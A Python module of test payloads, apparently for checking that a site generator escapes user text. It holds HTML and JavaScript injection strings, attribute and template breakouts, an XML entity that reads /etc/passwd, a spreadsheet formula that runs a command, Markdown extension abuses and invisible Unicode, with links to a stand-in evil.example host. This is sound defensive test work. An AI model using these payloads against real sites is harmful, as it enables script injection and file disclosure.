"""Texts that would hurt a reader if they became markup or script, each with what it tries.

§ stands for a word that no other text has, by which it is found again. What runs sets
`window.__hurt`; what loads asks for something of evil.example.
"""

import re

RUN = "__hurt='§'"
EVIL = "https://evil.example/§"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script, in capitals and cut": f"<ScRiPt/x>{RUN}</script x",
    "picture that fails": f'<img src=x onerror="{RUN}">',
    "svg": f"<svg onload={RUN}>",
    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "math that mutates": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "details that opens": f"<details open ontoggle={RUN}>",
    "field with the focus": f"<input autofocus onfocus={RUN}>",
    "link that runs": f'<a href="javascript:{RUN}">x</a>',
    "link to a document within": f'<a href="data:text/html,<script>opener.{RUN}</script>">x</a>',
    "link of old": f'<a href="vbscript:{RUN}">x</a>',
    "form": f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">x</button></form>',
    "another page at once": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base of all links": f'<base href="{EVIL}/">',
    "style that imports": f'<style>@import "{EVIL}.css";</style><link rel=stylesheet href={EVIL}>',
    "style that loads": f'<div style="background:url({EVIL});width:expression({RUN})">x</div>',
    "tag without an end": f"<p onclick={RUN} x",
    "comment that ends early": f"<!--><script>{RUN}</script>-->",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a title or field": f"</title></textarea></style><script>{RUN}</script>",
    "end of boxes": "</p></details></div></article></main></body>§",
}
"""Tags, and ends of those that a page puts a text into."""

SIGNS = {
    "end of CDATA": f']]><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script><![CDATA[',
    "entity of XML": '<!ENTITY § SYSTEM "file:///etc/passwd">',
    "end of an attribute": f'" autofocus onfocus="{RUN}" x="',
    "end of an attribute in single quotes": "' autofocus onfocus='__hurt=\"§\"' x='",
    "attribute without quotes": f"x onmouseover={RUN}",
    "template literal": f"`${{{RUN}}}`",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities of entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "numbered entities": f"&#60;script&#62;{RUN}&#x3C;/script&#x3E;",
    "template of Jinja": "{{ config.extra.repository }}§{% include 'main.html' %}{# x #}",
    "format of Python": "{0} {name} {§.__class__} %s %(x)s",
    "formula": f'=HYPERLINK("{EVIL}","x")',
    "formula that calls": "@SUM(1+1)*cmd|' /C calc'!A0 §",
    "signs of an address": "a?b=c&d=e#f%00%0d%0a;§/../../",
    "address of another host": "//evil.example/§",
    "address with another host behind @": "https://example.org@evil.example/§",
    "address that runs": f"javascript:{RUN}",
    "prototype": '{"__proto__": {"§": 1}}',
}
"""Signs that end or escape what a text is put into."""

MARKDOWN = {
    "link": f"[x](javascript:{RUN})",
    "picture": f"![x]({EVIL}.png)",
    "picture with attributes": f'![x](x){{ onerror="{RUN}" }}',
    "definition of a link": f"[§]: javascript:{RUN} 'x'",
    "link by reference": "[x][§] [§] [§][]",
    "address in signs": f"<javascript:{RUN}>",
    "attributes": f'{{: onclick="{RUN}" }}',
    "attributes behind words": f'x **y**{{: .a #§ onclick="{RUN}" }} {{ #z }}',
    "Markdown in HTML": f'<div markdown="1" onclick="{RUN}">**x**</div>',
    "heading": "# §",
    "list": "1. §",
    "bullets": "- §",
    "quotation": "> §",
    "emphasis": "**§** _x_ ~~y~~ ==z== ^^a^^ ~b~",
    "table": "a | § | b",
    "snippet": '--8<-- "../§.md"',
    "snippet, escaped": ';--8<-- "mkdocs.yml" §',
    "fence": '``` { .python onclick="x" } §',
    "details": '??? note "§"',
    "admonition": '!!! danger "§"',
    "tab": '=== "§"',
    "YAML": 'title: "§" # x',
    "indented code": "§\t\tx",
}
"""What Markdown, its extensions and front matter would read."""

UNSEEN = {
    "separator of lines": "§\u2028x",
    "separator of paragraphs": "§\u2029x",
    "words turned around": "§\u202egnp.x",
    "space of no width": "§\u200bx",
    "control": "§\u0000\u0008x",
    "character that is none": "§\ufdd0x",
    "letter without a shape": "§\u3164x",
    "selector of a variant": "§\ufe0fx",
}
"""Characters that nobody sees: refused wherever they stand."""

PAYLOADS = {**HTML, **SIGNS, **MARKDOWN}
BEGINS = re.compile(r"[#>=@+-]|\d\.|\[§\]:|[!?]{3}|;?--8<--|```|\{|<!|title:")
"""What only hurts where a text begins."""


def pack() -> list[str]:
    """Return texts that have all payloads between them, so that a site of them is not too large.

    Tags, which sources refuse, are apart from the rest, three in a text, short and long ones, as a
    name has 200 characters at most; what only hurts at a beginning begins one.
    """
    rest = [*SIGNS.values(), *MARKDOWN.values()]
    first = [text for text in rest if BEGINS.match(text)]
    others = [text for text in rest if not BEGINS.match(text)]
    inner = [" ".join(others[n :: len(first)]) for n in range(len(first))]
    tags = sorted(HTML.values(), key=len)
    third = len(tags) // 3
    threes = zip(tags[:third], tags[third:-third], reversed(tags[-third:]), strict=True)
    return [
        *(f"{begin} {more}" for begin, more in zip(first, inner, strict=True)),
        *map(" ".join, threes),
    ]
